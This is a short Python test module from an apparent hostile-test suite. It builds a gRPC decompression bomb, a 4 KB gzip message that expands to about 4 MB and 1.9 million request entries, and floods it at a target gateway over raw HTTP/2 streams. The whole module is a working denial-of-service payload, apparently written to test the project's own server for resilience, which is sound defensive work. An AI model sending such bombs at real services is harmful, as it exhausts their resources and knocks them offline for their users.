"""Messages that are small until they are decompressed, and hold a million entries then."""

from __future__ import annotations

import gzip

from counterflow.wire.http2 import codes
from counterflow.wire.http2.outgoing import frame
from counterflow_wire import gateway
from tests.hostile.attack import Attack
from tests.hostile.raw import RawConnection
from tests.hostile.target import Target

ENTRIES = 1_900_000
AT_ONCE = 5
START = gateway.ProcessInstanceCreationStartInstruction()
REQUEST = gateway.CreateProcessInstanceRequest(bpmnProcessId="innocent", startInstructions=[START] * ENTRIES)
PACKED = gzip.compress(REQUEST.SerializeToString())
BOMB = b"\1" + len(PACKED).to_bytes(4) + PACKED


async def run(target: Target, dose: int) -> None:
    """Send `dose` of them."""
    await target.flood(dose, AT_ONCE, _call)


def _call(client: RawConnection, number: int) -> bytes:
    stream_id = 2 * number + 1
    head = client.head(stream_id, gateway.METHODS["CreateProcessInstance"].path, ("grpc-encoding", "gzip"))
    return head + frame(codes.DATA, codes.END_STREAM, stream_id, BOMB)


ATTACK = Attack("messages of 4 KB that are 4 MB and 1.9 million entries", run, seen=10, small=0.5)
